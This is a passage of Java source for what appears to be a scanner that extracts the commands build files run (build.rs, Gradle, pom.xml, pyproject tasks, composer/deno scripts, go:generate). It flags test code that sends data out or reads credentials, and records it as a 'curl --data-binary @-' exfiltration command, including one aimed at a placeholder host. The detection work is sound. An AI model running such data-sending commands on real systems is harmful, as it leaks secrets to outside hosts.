  private static final Pattern URL = Pattern.compile("https?://[^\\s\"'`)]+");

  /**
   * Test and set-up code that sends data to a host ({@code urlopen(URL, data=…)}, {@code fetch(URL,
   * {method: 'POST'})}), or talks to one and reads credentials or the environment, exfiltrates when
   * the test run runs it: recorded as {@code curl -d @- URL} for each URL.
   */
  private static void sent(String content, List<String> out) {
    if (!NETWORK.matcher(content).find()) {
      return;
    }
    boolean sends = SENDS.matcher(content).find();
    boolean sensitive = SENSITIVE.matcher(content).find();
    if (!sends && !sensitive) {
      return;
    }
    Matcher u = URL.matcher(content);
    boolean any = false;
    while (u.find()) {
      any = true;
      out.add("curl -s --data-binary @- " + shellQuote(u.group()));
    }
    if (!any) {
      out.add("curl -s --data-binary @- https://unknown.invalid/");
    }
  }

  private static final Pattern RUST_COMMAND =
      Pattern.compile("Command::new\\(\\s*\"([^\"]*)\"\\s*\\)((?:\\s*\\.\\s*args?\\([^)]*\\))*)");

  /** build.rs: {@code Command::new("sh").arg("-c").arg("…")} chains. */
  static List<String> rust(String content) {
    List<String> out = new ArrayList<>();
    Matcher m = RUST_COMMAND.matcher(content);
    while (m.find()) {
      StringBuilder cmd = new StringBuilder(m.group(1));
      Matcher lit = STRING_LITERAL.matcher(m.group(2));
      while (lit.find()) {
        String s = lit.group(1) != null ? lit.group(1) : lit.group(2);
        if (s != null) {
          cmd.append(' ').append(shellQuote(s));
        }
      }
      out.add(cmd.toString());
    }
    return out;
  }

  private static final String JVM_STRING = "\"(?:[^\"\\\\]|\\\\.)*\"|'(?:[^'\\\\]|\\\\.)*'";

  /**
   * Gradle's ways to run a program from a build script: {@code commandLine 'sh', '-c', …} (also
   * {@code commandLine(…)}, {@code commandLine = listOf(…)}), {@code executable}, {@code
   * ProcessBuilder(…)}, {@code Runtime.getRuntime().exec(…)}, {@code providers.exec}, and Groovy's
   * {@code "cmd".execute()}.
   */
  private static final Pattern GRADLE_CALL =
      Pattern.compile(
          "\\b(?:commandLine|executable|ProcessBuilder|getRuntime\\(\\)\\.exec)\\s*(?:=\\s*)?"
              + "(?:\\(\\s*)?(?:listOf|arrayOf|List\\.of)?\\s*[(\\[]?\\s*((?:"
              + JVM_STRING
              + ")(?:\\s*,\\s*(?:"
              + JVM_STRING
              + "))*)");

  private static final Pattern GROOVY_EXECUTE =
      Pattern.compile("(" + JVM_STRING + ")\\s*\\.execute\\(\\)");

  /** A list of string literals as one command: one string is a command line, several are words. */
  private static String stringList(String literals) {
    List<String> words = new ArrayList<>();
    Matcher lit = STRING_LITERAL.matcher(literals);
    while (lit.find()) {
      words.add(lit.group(1) != null ? lit.group(1) : lit.group(2));
    }
    if (words.size() == 1) {
      return words.get(0);
    }
    StringBuilder cmd = new StringBuilder();
    for (String w : words) {
      cmd.append(cmd.length() == 0 ? "" : " ").append(shellQuote(w));
    }
    return cmd.toString();
  }

  /** The commands a Gradle build script (Groovy or Kotlin) runs. */
  static List<String> gradle(String content) {
    List<String> out = new ArrayList<>();
    Matcher m = GRADLE_CALL.matcher(content);
    while (m.find()) {
      out.add(stringList(m.group(1)));
    }
    Matcher g = GROOVY_EXECUTE.matcher(content);
    while (g.find()) {
      out.add(stringList(g.group(1)));
    }
    return out;
  }

  private static final Pattern POM_EXECUTABLE =
      Pattern.compile("<executable>([^<]*)</executable>|<exec\\s[^>]*executable=\"([^\"]*)\"");

  private static final Pattern POM_ARGUMENT =
      Pattern.compile(
          "<argument>([^<]*)</argument>|<arg\\s+value=\"([^\"]*)\"|<arg\\s+line=\"([^\"]*)\"");

  /**
   * pom.xml: the programs the exec plugin ({@code <executable>} and its {@code <argument>}s) and
   * antrun ({@code <exec executable=…>} and its {@code <arg>}s) run in the build.
   */
  static List<String> pom(String content) {
    List<String> out = new ArrayList<>();
    Matcher m = POM_EXECUTABLE.matcher(content);
    while (m.find()) {
      StringBuilder cmd =
          new StringBuilder(shellQuote(xml(m.group(1) != null ? m.group(1) : m.group(2))));
      int end = content.indexOf(m.group(1) != null ? "</configuration>" : "</exec>", m.end());
      Matcher a =
          POM_ARGUMENT.matcher(content.substring(m.end(), end < 0 ? content.length() : end));
      while (a.find()) {
        String line = a.group(3);
        cmd.append(' ')
            .append(
                line != null
                    ? xml(line)
                    : shellQuote(xml(a.group(1) != null ? a.group(1) : a.group(2))));
      }
      out.add(cmd.toString());
    }
    return out;
  }

  private static String xml(String s) {
    return s.strip()
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&");
  }

  private static final Pattern TOML_SECTION = Pattern.compile("^\\[([^\\]]+)]\\s*$");

  private static final Pattern TOML_STRING =
      Pattern.compile("\"((?:[^\"\\\\]|\\\\.)*)\"|'([^']*)'");

  /**
   * pyproject.toml: the commands of task runners' tables ({@code [tool.poe.tasks]}, {@code
   * [tool.pdm.scripts]}, {@code [tool.hatch.envs.*.scripts]}, {@code [tool.taskipy.tasks]}, {@code
   * [tool.rye.scripts]} and their sub-tables): every string value there is a command line.
   */
  static List<String> pyprojectTasks(String content) {
    List<String> out = new ArrayList<>();
    boolean tasks = false;
    for (String line : content.split("\n")) {
      String l = line.strip();
      Matcher sec = TOML_SECTION.matcher(l);
      if (sec.matches()) {
        String name = sec.group(1).strip().replace("\"", "");
        tasks =
            name.startsWith("tool.poe.tasks")
                || name.startsWith("tool.pdm.scripts")
                || name.startsWith("tool.taskipy.tasks")
                || name.startsWith("tool.rye.scripts")
                || name.startsWith("tool.hatch.envs.") && name.contains(".scripts");
        continue;
      }
      if (!tasks || l.startsWith("#")) {
        continue;
      }
      int eq = l.indexOf('=');
      String value = eq >= 0 && !l.startsWith("\"") && !l.startsWith("'") ? l.substring(eq + 1) : l;
      Matcher str = TOML_STRING.matcher(value);
      while (str.find()) {
        String v = str.group(1) != null ? str.group(1).replace("\\\"", "\"") : str.group(2);
        if (!v.isBlank()) {
          out.add(v); // test = "pytest", test = {cmd = "pytest"}, test = ["ruff .", "pytest"]
        }
      }
    }
    return out;
  }

  /**
   * composer.json {@code scripts} and deno.json {@code tasks}: every string under them is a command
   * line (composer's {@code @php} and {@code @composer} prefixes dropped); an edit's fragment is
   * read string by string.
   */
  static List<String> jsonStrings(String content, boolean fragment) {
    List<String> out = new ArrayList<>();
    JsonNode root;
    try {
      root = fragment ? null : Json.MAPPER.readTree(content);
    } catch (java.io.IOException e) {
      root = null;
    }
    if (root != null && root.isObject()) {
      for (String key : List.of("scripts", "tasks")) {
        collectStrings(root.path(key), out);
      }
      return out;
    }
    Matcher pair =
        Pattern.compile("\"(?:[^\"\\\\]|\\\\.)*\"\\s*:\\s*\"((?:[^\"\\\\]|\\\\.)*)\"")
            .matcher(content);
    while (pair.find()) {
      out.add(pair.group(1).replace("\\\"", "\""));
    }
    Matcher item = Pattern.compile("\\[\\s*\"((?:[^\"\\\\]|\\\\.)*)\"").matcher(content);
    while (item.find()) {
      out.add(item.group(1).replace("\\\"", "\""));
    }
    return out;
  }

  private static void collectStrings(JsonNode n, List<String> out) {
    if (n.isTextual()) {
      String t = n.textValue();
      if (t.startsWith("@php ") || t.startsWith("@composer ")) {
        t = t.substring(t.indexOf(' ') + 1);
      }
      if (!t.startsWith("@")) {
        out.add(t);
      }
    } else if (n.isContainerNode()) {
      n.forEach(c -> collectStrings(c, out));
    }
  }

  /** {@code //go:generate CMD}: run by {@code go generate}. */
  static List<String> goGenerate(String content) {
    List<String> out = new ArrayList<>();
    for (String line : content.split("\n")) {
      if (line.startsWith("//go:generate ")) {
        out.add(line.substring(14));
      }
    }
    return out;
  }
}
